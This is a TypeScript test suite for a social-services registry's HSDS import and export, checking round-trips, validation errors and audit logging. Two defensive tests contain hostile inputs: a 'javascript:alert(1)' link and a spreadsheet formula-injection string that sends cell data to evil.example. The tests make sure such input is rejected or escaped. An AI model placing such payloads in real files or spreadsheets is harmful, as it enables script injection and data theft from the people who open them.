import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Kysely } from 'kysely';
import type { Database } from '../db/database.js';
import { AppError } from '../core/errors.js';
import { translatorFor } from '../core/i18n.js';
import { loadDemoData } from '../demo/demo.service.js';
import { helpTypeTermId } from './help-types.js';
import { openTestDatabase } from '../testing/test-database.js';
import type { CommandContext } from '../cli/commands.js';
import { testConfig } from '../testing/test-database.js';
import { hsdsCommands } from './hsds.cli.js';
import { exportHsds } from './hsds-export.js';
import { importHsds } from './hsds-import.js';
import { countRegistryRows } from './hsds-import.repository.js';
import {
  describeTable,
  emptyTextFields,
  hsdsTableNames,
  referenceFields,
  scalarFields,
  type HsdsTableName,
} from './hsds-mapping.js';
import { fixtureIds, hsdsExamplesDirectory, profileFixture } from './hsds.fixtures.js';
import { hsdsTableSchema, validateHsds } from './hsds-validate.js';

const t = translatorFor('en');
const example = (name: string) => join(hsdsExamplesDirectory, name);
const readJson = (file: string) => JSON.parse(readFileSync(file, 'utf8'));

const temporaryDirectories: string[] = [];
function temporaryDirectory(): string {
  const directory = mkdtempSync(join(tmpdir(), 'atlas-hsds-'));
  temporaryDirectories.push(directory);
  return directory;
}
after(() => {
  for (const directory of temporaryDirectories) rmSync(directory, { recursive: true, force: true });
});

async function withDatabase(run: (db: Kysely<Database>) => Promise<void>): Promise<void> {
  const database = await openTestDatabase();
  try {
    await run(database.db);
  } finally {
    await database.close();
  }
}

async function importAndExport(db: Kysely<Database>, source: string) {
  await importHsds(db, source);
  const directory = temporaryDirectory();
  await exportHsds(db, directory);
  return {
    directory,
    organizations: readJson(join(directory, 'organizations.json')) as Array<Record<string, unknown>>,
    services: readJson(join(directory, 'services.json')) as Array<Record<string, unknown>>,
  };
}

/** Every exported object validates against the official schemas; every tabular row against its table's schema. */
function assertExportValidates(
  directory: string,
  organizations: Array<Record<string, unknown>>,
  services: Array<Record<string, unknown>>,
): void {
  for (const [index, organization] of organizations.entries()) {
    assert.deepEqual(validateHsds('organization.json', organization), [], `organizations.json [${index}]`);
    for (const service of (organization.services as unknown[] | undefined) ?? [])
      assert.deepEqual(validateHsds('service.json', service), [], `organizations.json [${index}] services`);
  }
  for (const [index, service] of services.entries())
    assert.deepEqual(validateHsds('service.json', service), [], `services.json [${index}]`);
  const tabular = join(directory, 'tabular');
  const dataPackage = readJson(join(tabular, 'datapackage.json')) as {
    resources: Array<{ name: string; path: string; schema: { fields: Array<{ name: string }> } }>;
  };
  assert.equal(dataPackage.resources.length, hsdsTableNames.length);
  for (const table of hsdsTableNames) {
    const { csvFile, schemaFile } = describeTable(table);
    const schema = hsdsTableSchema(schemaFile);
    const resource = dataPackage.resources.find((candidate) => candidate.path === csvFile);
    assert.ok(resource, `datapackage.json lists ${csvFile}`);
    const records = parseCsv(readFileSync(join(tabular, csvFile), 'utf8'), { columns: true }) as Array<
      Record<string, string>
    >;
    assert.deepEqual(
      resource.schema.fields.map((field) => field.name),
      scalarFields(table),
    );
    for (const [index, record] of records.entries()) {
      const typed: Record<string, unknown> = {};
      for (const [column, text] of Object.entries(record)) {
        if (text !== '') typed[column] = schema.properties[column]?.type === 'number' ? Number(text) : text;
        else if (emptyTextFields[table]?.has(column)) typed[column] = '';
      }
      assert.deepEqual(validateHsds(schemaFile, typed), [], `${csvFile} row ${index + 2}`);
    }
  }
}

const timestampFields = new Set(['last_modified']);

/**
 * Asserts that `exported` holds every field of `original` with the same value (lists matched by id), and that
 * whatever it adds is only a reference to another record (HSDS lets a nested object name its links or not).
 */
function assertKeepsEveryField(
  original: unknown,
  exported: unknown,
  path: string,
  table: HsdsTableName | undefined,
  brief = false,
): void {
  if (Array.isArray(original)) {
    assert.ok(Array.isArray(exported), `${path} is a list`);
    assert.equal(exported.length, original.length, `${path} has ${original.length} items`);
    original.forEach((item, index) => {
      const match =
        exported.find((candidate) => (candidate as { id?: unknown }).id === (item as { id?: unknown }).id) ??
        exported[index];
      assertKeepsEveryField(item, match, `${path}[${index}]`, table, brief);
    });
    return;
  }
  if (typeof original === 'object' && original !== null) {
    assert.ok(typeof exported === 'object' && exported !== null, `${path} is an object`);
    const exportedObject = exported as Record<string, unknown>;
    for (const [key, value] of Object.entries(original)) {
      const nested = table ? describeTable(table).nested.find((nesting) => nesting.property === key) : undefined;
      assert.ok(key in exportedObject, `${path}.${key} is exported`);
      assertKeepsEveryField(
        value,
        exportedObject[key],
        `${path}.${key}`,
        nested?.table ?? (key === 'services' ? 'service' : undefined),
        brief,
      );
      if (timestampFields.has(key))
        assert.equal(Date.parse(String(exportedObject[key])), Date.parse(String(value)), `${path}.${key}`);
    }
    const references = table ? referenceFields(table) : new Set<string>();
    // A list answer (organization_list.json …) leaves the related objects out; the full export has them.
    const related = new Set(table && brief ? describeTable(table).nested.map((nesting) => nesting.property) : []);
    for (const key of Object.keys(exportedObject)) {
      if (key in original || related.has(key)) continue;
      assert.ok(references.has(key), `${path}.${key} is added by the export, and it is not a reference field`);
    }
    return;
  }
  if (typeof original === 'string' && timestampFields.has(path.split('.').pop()!)) return;
  assert.equal(exported, original, path);
}

test('the official full organization imports and exports again with every field', async () => {
  await withDatabase(async (db) => {
    const original = readJson(example('organization_full.json'));
    const { directory, organizations, services } = await importAndExport(db, example('organization_full.json'));
    assertExportValidates(directory, organizations, services);
    const exported = organizations.find((organization) => organization.id === original.id);
    assertKeepsEveryField(original, exported, 'organization', 'organization');
  });
});

test('the official full service imports and exports again with every field', async () => {
  await withDatabase(async (db) => {
    const original = readJson(example('service_full.json'));
    const { directory, organizations, services } = await importAndExport(db, example('service_full.json'));
    assertExportValidates(directory, organizations, services);
    assert.equal(services.length, 1);
    assertKeepsEveryField(original, services[0], 'service', 'service');
  });
});

test('the official Page lists import, and their records export again with every field', async () => {
  await withDatabase(async (db) => {
    await importHsds(db, example('organization_list.json'));
    const { directory, organizations, services } = await importAndExport(db, example('service_list.json'));
    assertExportValidates(directory, organizations, services);
    const organization = readJson(example('organization_list.json')).contents[0];
    assertKeepsEveryField(
      organization,
      organizations.find((candidate) => candidate.id === organization.id),
      'organization',
      'organization',
      true,
    );
    const service = readJson(example('service_list.json')).contents[0];
    assertKeepsEveryField(
      service,
      services.find((candidate) => candidate.id === service.id),
      'service',
      'service',
      true,
    );
  });
});

test('the official tabular example (CSV) imports and exports again with every field of every row', async () => {
  await withDatabase(async (db) => {
    const source = join(hsdsExamplesDirectory, 'csv');
    const summary = await importHsds(db, source);
    // The example's contacts, locations and terms point to records it does not hold; they are kept as they came.
    assert.ok(summary.externalReferences > 0);
    assert.ok(
      summary.notes.some((note) => note.params.file === 'meta_table_descriptions.csv'),
      'the table the model lacks is named',
    );
    const directory = temporaryDirectory();
    await exportHsds(db, directory);
    assertExportValidates(
      directory,
      readJson(join(directory, 'organizations.json')),
      readJson(join(directory, 'services.json')),
    );
    for (const file of readdirSync(source).filter(
      (name) => name.endsWith('.csv') && name !== 'meta_table_descriptions.csv',
    )) {
      const original = parseCsv(readFileSync(join(source, file), 'utf8'), { columns: true }) as Array<
        Record<string, string>
      >;
      const exported = parseCsv(readFileSync(join(directory, 'tabular', file), 'utf8'), { columns: true }) as Array<
        Record<string, string>
      >;
      for (const row of original) {
        const match = exported.find((candidate) => candidate.id === row.id);
        assert.ok(match, `${file}: row ${row.id} is exported`);
        for (const [column, value] of Object.entries(row)) {
          if (timestampFields.has(column))
            assert.equal(Date.parse(match[column]!), Date.parse(value), `${file} ${column}`);
          else assert.equal(match[column], value, `${file} ${row.id} ${column}`);
        }
      }
    }
  });
});

test('the profile: mission fields are read from attributes and standard fields, and exported the same way', async () => {
  await withDatabase(async (db) => {
    const directory = temporaryDirectory();
    writeFileSync(join(directory, 'registry.json'), JSON.stringify(profileFixture()));
    const first = await importAndExport(db, join(directory, 'registry.json'));
    assertExportValidates(first.directory, first.organizations, first.services);

    const organization = await db
      .selectFrom('organization')
      .selectAll()
      .where('id', '=', fixtureIds.organization)
      .executeTakeFirstOrThrow();
    assert.equal(organization.institution_type, 'municipal_social_service');
    assert.equal(organization.is_demo, true);
    assert.equal(organization.last_verified_on, '2026-10-01');
    const shelter = await db
      .selectFrom('service')
      .selectAll()
      .where('id', '=', fixtureIds.shelter)
      .executeTakeFirstOrThrow();
    assert.equal(shelter.residency_rule, 'last_declared_residence');
    assert.equal(shelter.eligible_sex, 'male');
    assert.equal(shelter.capacity_beds, 24);
    assert.equal(shelter.last_verified_on, '2026-10-02');
    assert.equal(shelter.minimum_age, 18);
    const residency = await db
      .selectFrom('service_residency_territory')
      .select('territory_code')
      .where('service_id', '=', fixtureIds.shelter)
      .orderBy('territory_code')
      .execute();
    assert.deepEqual(
      residency.map((row) => row.territory_code),
      ['0006000', '0043000'],
    );
    const legal = await db
      .selectFrom('service')
      .selectAll()
      .where('id', '=', fixtureIds.legalAdvice)
      .executeTakeFirstOrThrow();
    assert.equal(legal.is_statewide, true);
    const location = await db
      .selectFrom('location')
      .selectAll()
      .where('id', '=', fixtureIds.location)
      .executeTakeFirstOrThrow();
    assert.equal(location.territory_code, '0043400');
    const area = await db
      .selectFrom('service_area')
      .selectAll()
      .where('id', '=', fixtureIds.serviceArea)
      .executeTakeFirstOrThrow();
    assert.equal(area.territory_code, '0043000');
    // Profile attributes become columns, not attribute rows; the help type stays an attribute.
    const attributes = await db
      .selectFrom('attribute')
      .select('taxonomy_term_id')
      .where('link_id', '=', fixtureIds.shelter)
      .execute();
    assert.equal(attributes.length, 1);

    // Exported: the same values as attributes of the profile taxonomy.
    const exportedShelter = first.services.find((service) => service.id === fixtureIds.shelter)!;
    const values = (
      exportedShelter.attributes as Array<{ value?: string; taxonomy_term: { code: string; taxonomy_id?: string } }>
    )
      .map((item) => `${item.taxonomy_term.code}=${item.value ?? ''}`)
      .sort();
    assert.deepEqual(
      values,
      [
        'capacity_beds=24',
        'eligible_sex=male',
        'last_verified_on=2026-10-02',
        'residency_rule=last_declared_residence',
        'residency_territory=0006000',
        'residency_territory=0043000',
        'shelter=',
      ].sort(),
    );
    assert.deepEqual(exportedShelter.service_areas, [
      { id: fixtureIds.serviceArea, name: 'Rēzeknes novads', extent: '0043000', extent_type: 'atvk' },
    ]);

    // A second registry fed with the export holds the same, and exports the same again.
    await withDatabase(async (second) => {
      const again = await importAndExport(second, join(first.directory, 'services.json'));
      await importHsds(second, join(first.directory, 'organizations.json'));
      const third = temporaryDirectory();
      await exportHsds(second, third);
      assert.deepEqual(readJson(join(third, 'services.json')), first.services);
      assert.deepEqual(readJson(join(third, 'organizations.json')), first.organizations);
      assert.ok(again.services.length === 2);
    });
    // And so does one fed with the tabular export.
    await withDatabase(async (second) => {
      await importHsds(second, join(first.directory, 'tabular'));
      const third = temporaryDirectory();
      await exportHsds(second, third);
      assert.deepEqual(readJson(join(third, 'services.json')), first.services);
      assert.deepEqual(readJson(join(third, 'organizations.json')), first.organizations);
    });
  });
});

test('the demo registry exports valid HSDS, and a registry fed with that export exports the same again', async () => {
  await withDatabase(async (db) => {
    const demo = await loadDemoData(db);
    assert.ok(demo.services > 0);
    const first = temporaryDirectory();
    const exported = await exportHsds(db, first);
    assert.equal(exported.services, demo.services);
    const organizations = readJson(join(first, 'organizations.json')) as Array<Record<string, unknown>>;
    const services = readJson(join(first, 'services.json')) as Array<Record<string, unknown>>;
    assertExportValidates(first, organizations, services);
    // Mission fields travel in the profile: some demo services have a residency rule, every institution a type.
    assert.ok(JSON.stringify(services).includes('"code":"residency_rule"'));
    assert.ok(
      organizations.every((organization) =>
        JSON.stringify(organization.attributes ?? []).includes('"code":"institution_type"'),
      ),
    );
    await withDatabase(async (second) => {
      await importHsds(second, first);
      const again = temporaryDirectory();
      await exportHsds(second, again);
      assert.deepEqual(readJson(join(again, 'services.json')), services);
      assert.deepEqual(readJson(join(again, 'organizations.json')), organizations);
    });
    await withDatabase(async (second) => {
      await importHsds(second, join(first, 'tabular'));
      const again = temporaryDirectory();
      await exportHsds(second, again);
      assert.deepEqual(readJson(join(again, 'services.json')), services);
      assert.deepEqual(readJson(join(again, 'organizations.json')), organizations);
    });
  });
});

test('a malformed file is rejected whole, with one message per bad record, and the database is unchanged', async () => {
  await withDatabase(async (db) => {
    const directory = temporaryDirectory();
    const [organization] = profileFixture();
    const services = [
      {
        id: '22222222-0000-4000-8000-0000000000a1',
        name: 'Good service',
        status: 'active',
        organization_id: fixtureIds.organization,
      },
      { id: 'not-a-uuid', name: 'Bad id', status: 'active', organization_id: fixtureIds.organization },
      {
        id: '22222222-0000-4000-8000-0000000000a3',
        status: 'active',
        organization_id: fixtureIds.organization,
        phones: [{ id: '55555555-0000-4000-8000-0000000000a3' }],
      },
      {
        id: '22222222-0000-4000-8000-0000000000a4',
        name: 'Unknown territory',
        status: 'active',
        organization_id: fixtureIds.organization,
        service_areas: [{ id: '77777777-0000-4000-8000-0000000000a4', extent: '0999999', extent_type: 'atvk' }],
      },
    ];
    writeFileSync(join(directory, 'bad.json'), JSON.stringify([organization, ...services]));
    const before = await countRegistryRows(db);
    const error = await importHsds(db, join(directory, 'bad.json')).then(
      () => assert.fail('the import should be rejected'),
      (caught: unknown) => caught,
    );
    assert.ok(error instanceof AppError);
    assert.equal(error.code, 'invalid_input');
    const records = describeRecords(error);
    assert.equal(records.length, 3, JSON.stringify(records));
    assert.deepEqual(
      records.map((record) => record.path),
      ['[2] (service "Bad id")', '[3] (service)', '[4] (service "Unknown territory")'],
    );
    assert.match(records[0]!.message, /^\[2\]\.id is not a valid UUID/);
    assert.match(records[1]!.message, /\[3\]\.name is required but missing/);
    assert.match(records[1]!.message, /\[3\]\.phones\[0\]\.number is required but missing/);
    assert.match(
      records[2]!.message,
      /\[4\]\.service_areas\[0\]\.extent names territory 0999999, which is not an ATVK code we know/,
    );
    assert.match(t(error.messageKey, error.messageParameters), /3 records were rejected/);
    assert.deepEqual(await countRegistryRows(db), before);
  });
});

test('a javascript: link is rejected with its own message, and nothing is imported', async () => {
  await withDatabase(async (db) => {
    const directory = temporaryDirectory();
    const organization = { ...readJson(example('organization_full.json')), website: 'javascript:alert(1)' };
    writeFileSync(join(directory, 'bad.json'), JSON.stringify(organization));
    const before = await countRegistryRows(db);
    const error = await importHsds(db, join(directory, 'bad.json')).then(
      () => assert.fail('the import should be rejected'),
      (caught: unknown) => caught,
    );
    assert.ok(error instanceof AppError);
    const [record] = describeRecords(error);
    assert.match(
      record!.message,
      /website is a link the registry does not accept \(only http:, https:, mailto: and tel: links are allowed\): "javascript:alert\(1\)"/,
    );
    assert.deepEqual(await countRegistryRows(db), before);
  });
});

test('the tabular export writes text a spreadsheet would run as a formula as text, and imports it back unchanged', async () => {
  await withDatabase(async (db) => {
    const directory = temporaryDirectory();
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
    const organization = { ...readJson(example('organization_full.json')), description: formula, alternate_name: '-5' };
    writeFileSync(join(directory, 'formula.json'), JSON.stringify(organization));
    const { directory: exported, organizations } = await importAndExport(db, join(directory, 'formula.json'));
    assert.equal(
      organizations.find((row) => row.id === organization.id)?.description,
      formula,
      'JSON is not a spreadsheet',
    );
    const [header, ...rows] = parseCsv(
      readFileSync(join(exported, 'tabular', 'organizations.csv'), 'utf8'),
    ) as string[][];
    const row = rows.find((cells) => cells[header!.indexOf('id')] === organization.id)!;
    assert.equal(row[header!.indexOf('description')], `'${formula}`);
    assert.equal(row[header!.indexOf('alternate_name')], '-5', 'a number is data');
    assert.equal(row[header!.indexOf('year_incorporated')], '2011');
    await withDatabase(async (second) => {
      const { organizations: again } = await importAndExport(second, join(exported, 'tabular'));
      assert.equal(again.find((row) => row.id === organization.id)?.description, formula);
    });
  });
});

test('references to records neither in the file nor in the registry, and repeated ids, are rejected', async () => {
  await withDatabase(async (db) => {
    const directory = temporaryDirectory();
    const missingOrganization = '11111111-0000-4000-8000-0000000000ff';
    writeFileSync(
      join(directory, 'dangling.json'),
      JSON.stringify([
        {
          id: '22222222-0000-4000-8000-0000000000b1',
          name: 'Orphan',
          status: 'active',
          organization_id: missingOrganization,
        },
        {
          id: '22222222-0000-4000-8000-0000000000b2',
          name: 'First',
          status: 'active',
          phones: [{ id: '55555555-0000-4000-8000-0000000000b2', number: '1' }],
        },
        {
          id: '22222222-0000-4000-8000-0000000000b3',
          name: 'Second',
          status: 'active',
          phones: [{ id: '55555555-0000-4000-8000-0000000000b2', number: '2' }],
        },
        {
          id: '22222222-0000-4000-8000-0000000000b4',
          name: 'Bad profile',
          status: 'active',
          attributes: [
            {
              id: '99999999-0000-4000-8000-0000000000b4',
              taxonomy_term_id: '7a1a5000-0b5d-4e00-8000-000000000005',
              value: '0999999',
            },
            {
              id: '99999999-0000-4000-8000-0000000000b5',
              taxonomy_term_id: '7a1a5000-0b5d-4e00-8000-000000000003',
              value: '2026-02-30',
            },
          ],
        },
      ]),
    );
    const before = await countRegistryRows(db);
    const error = await importHsds(db, join(directory, 'dangling.json')).catch((caught: unknown) => caught);
    assert.ok(error instanceof AppError);
    const messages = describeRecords(error).map((record) => `${record.path}: ${record.message}`);
    assert.equal(messages.length, 3, messages.join('\n'));
    assert.match(
      messages[0]!,
      new RegExp(
        `\\[0\\]\\.organization_id refers to organization ${missingOrganization}, which is neither in this file nor in the registry`,
      ),
    );
    assert.match(
      messages[1]!,
      /\[2\]\.phones\[0\]\.number is "2", but phone 55555555-0000-4000-8000-0000000000b2 appears elsewhere in the file with "1"/,
    );
    assert.match(
      messages[1]!,
      /\[2\]\.phones\[0\]\.service_id: phone 55555555-0000-4000-8000-0000000000b2 is also listed under another record \(\[1\]\.phones\[0\]\)/,
    );
    assert.match(messages[2]!, /names territory 0999999/);
    assert.match(
      messages[2]!,
      /is "2026-02-30", but the profile attribute "last_verified_on" must be one of: YYYY-MM-DD/,
    );
    assert.deepEqual(await countRegistryRows(db), before);
  });
});

test('a bad CSV cell is reported by file, row and column, and nothing is imported', async () => {
  await withDatabase(async (db) => {
    const directory = temporaryDirectory();
    for (const file of readdirSync(join(hsdsExamplesDirectory, 'csv')))
      if (file.endsWith('.csv')) copyFileSync(join(hsdsExamplesDirectory, 'csv', file), join(directory, file));
    // The example's files end lines with CRLF; so do the rows added here.
    const services = readFileSync(join(directory, 'services.csv'), 'utf8').trimEnd().split('\r\n');
    services.push(`not-a-uuid,d9d5e0f5-d3ce-4f73-9a2f-4dd0ecc6c610,,Second,,,,,active${','.repeat(14)}`);
    services.push(
      `ac148810-d857-441c-9679-408f346de1ff,d9d5e0f5-d3ce-4f73-9a2f-4dd0ecc6c610,,Third,,,,,open${','.repeat(14)}`,
    );
    writeFileSync(join(directory, 'services.csv'), `${services.join('\r\n')}\r\n`);
    const before = await countRegistryRows(db);
    const error = await importHsds(db, directory).catch((caught: unknown) => caught);
    assert.ok(error instanceof AppError);
    const records = describeRecords(error);
    assert.deepEqual(
      records.map((record) => record.path),
      ['services.csv row 3', 'services.csv row 4'],
    );
    assert.match(records[0]!.message, /^column id is not a valid UUID/);
    assert.match(
      records[1]!.message,
      /^column status is "open", but it must be one of: active, inactive, defunct, temporarily closed/,
    );
    assert.deepEqual(await countRegistryRows(db), before);
  });
});

test('an import bumps the registry revision once, and a later import links references it kept outside', async () => {
  await withDatabase(async (db) => {
    const revision = async () =>
      Number((await db.selectFrom('registry_revision').select('revision').executeTakeFirstOrThrow()).revision);
    const start = await revision();
    const directory = temporaryDirectory();
    const parent = '11111111-0000-4000-8000-0000000000c1';
    // An attribute whose value is plain text sits beside the kept reference: resolving must not read it as an id.
    const note = {
      id: '99999999-0000-4000-8000-0000000000c2',
      taxonomy_term_id: helpTypeTermId('legal'),
      value: 'ask for Ilze',
    };
    writeFileSync(
      join(directory, 'child.json'),
      JSON.stringify({
        id: '11111111-0000-4000-8000-0000000000c2',
        name: 'Child',
        description: '',
        parent_organization_id: parent,
        attributes: [note],
      }),
    );
    writeFileSync(join(directory, 'parent.json'), JSON.stringify({ id: parent, name: 'Parent', description: '' }));
    const summary = await importHsds(db, join(directory, 'child.json'));
    assert.equal(summary.externalReferences, 1);
    assert.equal(await revision(), start + 1);
    const child = () =>
      db
        .selectFrom('organization')
        .select('parent_organization_id')
        .where('id', '=', '11111111-0000-4000-8000-0000000000c2')
        .executeTakeFirstOrThrow();
    assert.equal((await child()).parent_organization_id, null);
    await importHsds(db, join(directory, 'parent.json'));
    assert.equal(await revision(), start + 2);
    assert.equal((await child()).parent_organization_id, parent);
    const left = await db
      .selectFrom('attribute')
      .select('id')
      .where('link_id', '=', '11111111-0000-4000-8000-0000000000c2')
      .execute();
    assert.deepEqual(
      left.map((row) => row.id),
      [note.id],
      'the kept reference is gone, the note stays',
    );
  });
});

test('every HSDS field of every table is a column of the registry', async () => {
  await withDatabase(async (db) => {
    const columns = (await db
      .selectFrom('information_schema.columns' as never)
      .select(['table_name' as never, 'column_name' as never])
      .execute()) as Array<{ table_name: string; column_name: string }>;
    for (const table of hsdsTableNames) {
      const present = new Set(
        columns.filter((column) => column.table_name === table).map((column) => column.column_name),
      );
      for (const field of scalarFields(table)) assert.ok(present.has(field), `${table}.${field}`);
    }
  });
});

/** The rejected records as a reader sees them: each record's path once, with every problem it has. */
function describeRecords(error: AppError): { path: string; message: string }[] {
  const byPath = new Map<string, string[]>();
  for (const detail of error.details)
    byPath.set(detail.path, [...(byPath.get(detail.path) ?? []), t(detail.messageKey, detail.parameters)]);
  return [...byPath].map(([path, messages]) => ({ path, message: messages.join('; ') }));
}

test('an import from the terminal is audited with its counts', async () => {
  await withDatabase(async (db) => {
    const command = hsdsCommands.find((candidate) => candidate.name === 'import')!;
    const printed: string[] = [];
    const context: CommandContext = {
      db,
      config: testConfig(),
      args: [example('organization_full.json')],
      print: (line) => printed.push(line),
      progress: () => {},
    };
    assert.equal(await command.run(context), 0);
    const events = await db
      .selectFrom('audit_event')
      .select(['account_id', 'details'])
      .where('action', '=', 'registry.hsds.import')
      .execute();
    assert.equal(events.length, 1);
    assert.equal(events[0]!.account_id, null);
    assert.equal((events[0]!.details as { via: string; organization: number }).via, 'cli');
    assert.equal((events[0]!.details as { organization: number }).organization, 1);
  });
});
